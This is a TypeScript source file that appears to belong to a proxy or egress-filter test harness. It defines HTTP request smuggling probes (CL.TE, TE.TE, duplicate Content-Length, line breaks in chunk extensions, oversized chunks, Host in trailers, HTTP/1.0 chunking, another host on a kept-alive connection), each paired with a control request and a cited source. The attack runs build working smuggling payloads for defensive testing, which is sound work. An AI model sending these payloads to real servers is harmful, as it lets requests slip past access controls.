import type { Targets } from '../../arena/targets.ts';
import { askHeaded, raw, sendAll, textOf } from '../../guest/requests.ts';
import { eachSpelling } from '../../guest/wire.ts';
import type { Probe, Run } from '../probe.ts';
import { CHUNKED, evil, good, hidden, smuggled } from './headed.ts';

/** Requests whose end two parsers see in different places. */

interface Parts {
  readonly lines: readonly string[];
  readonly body: string;
}

const post = (t: Targets, { lines, body }: Parts): Promise<void> =>
  askHeaded(t, [`Host: ${good(t)}`, ...lines], { method: 'POST', body });

/** Returns a run that sends an allowed POST with other header lines, and data after its head. */
const framed = (...make: readonly ((t: Targets, nonce: string) => Parts)[]): Run => ({
  attack: (t, nonce) => eachSpelling(nonce, make, (parts, nonce) => post(t, parts(t, nonce))),
  control: (t, nonce) => post(t, { lines: ['Content-Length: 27'], body: nonce }),
});

const ENDED = '1\r\na\r\n0\r\n\r\n';

/** Sends an allowed request and, in the same bytes, one for this host and path. */
function inARow(t: Targets, host: string, path: string): Promise<void> {
  const lines = [`Host: ${good(t)}`, 'Connection: keep-alive'];
  const body = textOf({ target: `http://${host}${path}`, lines: [`Host: ${host}`] });
  return askHeaded(t, lines, { body, read: sendAll });
}

/** Sends a POST in HTTP/1.0. */
function raw10(t: Targets, lines: readonly string[], body: string): Promise<void> {
  const head = [`POST http://${good(t)}/ HTTP/1.0`, `Host: ${good(t)}`, ...lines].join('\r\n');
  return raw(`${head}\r\n\r\n${body}`);
}

export const FRAMING: readonly Probe[] = [
  {
    ...smuggled,
    id: 'next-host',
    claim: 'Each request on a connection is judged for its own host.',
    attack: 'ask for another host behind an allowed request',
    source: 'Kettle, Browser-Powered Desync Attacks (2022): connection state',
    run: {
      attack: (t, nonce) => inARow(t, evil(t, nonce), '/'),
      control: (t, nonce) => inARow(t, good(t), `/${nonce}`),
    },
  },
  {
    ...smuggled,
    id: 'cl-te',
    claim: 'A request with a length and chunks does not hide another.',
    attack: 'hide a request by a length and chunks (CL.TE)',
    source: 'Kettle, HTTP Desync Attacks (2019); RFC 9112, 6.3',
    run: framed((t, nonce) => ({
      lines: [`Content-Length: ${5 + hidden(t, nonce).length}`, CHUNKED],
      body: `0\r\n\r\n${hidden(t, nonce)}`,
    })),
  },
  {
    ...smuggled,
    id: 'te-te',
    claim: 'No transfer coding gets out but chunked.',
    attack: 'add a coding that only some read (TE.TE)',
    source: 'Kettle, HTTP Desync Attacks (2019); RFC 9112, 6.1',
    run: framed(
      (_, nonce) => ({ lines: [CHUNKED, `Transfer-Encoding: ${nonce}`], body: ENDED }),
      (_, nonce) => ({ lines: [`Transfer-Encoding: ${nonce}, chunked`], body: ENDED }),
      (_, nonce) => ({ lines: [`Transfer-Encoding: chunked;${nonce}`], body: ENDED }),
      (_, nonce) => ({ lines: [`X: a\nTransfer-Encoding: ${nonce}`, CHUNKED], body: ENDED }),
    ),
  },
  {
    ...smuggled,
    id: 'cl-cl',
    claim: 'A request with two lengths does not get out.',
    attack: 'send two lengths that differ',
    source: 'RFC 9112, 6.3: such a message is refused',
    run: framed(
      (_, nonce) => ({ lines: ['Content-Length: 0', `Content-Length: ${nonce.length}`], body: nonce }),
      (_, nonce) => ({ lines: [`Content-Length: ${nonce.length}`, 'Content-Length: 0'], body: nonce }),
      (_, nonce) => ({ lines: [`Content-Length: 0, ${nonce.length}`], body: nonce }),
    ),
  },
  {
    ...smuggled,
    id: 'chunk-extension',
    claim: 'What is said of a chunk does not get out with a line end in it.',
    attack: 'put a line end into a chunk extension',
    source: 'CVE-2025-55315 (ASP.NET), Kallus: funky chunks (TERM.EXT)',
    run: framed(
      (_, nonce) => ({ lines: [CHUNKED], body: `1;a\n${nonce}\r\na\r\n0\r\n\r\n` }),
      (_, nonce) => ({ lines: [CHUNKED], body: `1;a\r${nonce}\r\na\r\n0\r\n\r\n` }),
    ),
  },
  {
    ...smuggled,
    id: 'chunk-longer',
    claim: 'A chunk that is longer than its size does not get out.',
    attack: 'hide a request behind the size of a chunk',
    source: 'RFC 9112, 7.1',
    run: framed((t, nonce) => ({
      lines: [CHUNKED],
      body: `1\r\na${hidden(t, nonce)}\r\n0\r\n\r\n`,
    })),
  },
  {
    ...smuggled,
    id: 'trailer-host',
    claim: 'No trailer names a host.',
    attack: 'name another host in a trailer',
    source: 'RFC 9110, 6.5.1',
    run: framed((t, nonce) => ({
      lines: [CHUNKED, 'Trailer: Host'],
      body: `1\r\na\r\n0\r\nHost: ${evil(t, nonce)}\r\n\r\n`,
    })),
  },
  {
    ...smuggled,
    id: 'http-1.0-chunks',
    claim: 'Chunks in HTTP/1.0 hide nothing.',
    attack: 'hide a request behind chunks in HTTP/1.0',
    source: 'RFC 9112, 6.1',
    run: {
      attack: (t, nonce) => raw10(t, [CHUNKED], `0\r\n\r\n${hidden(t, nonce)}`),
      control: (t, nonce) => raw10(t, ['Content-Length: 27'], nonce),
    },
  },
];
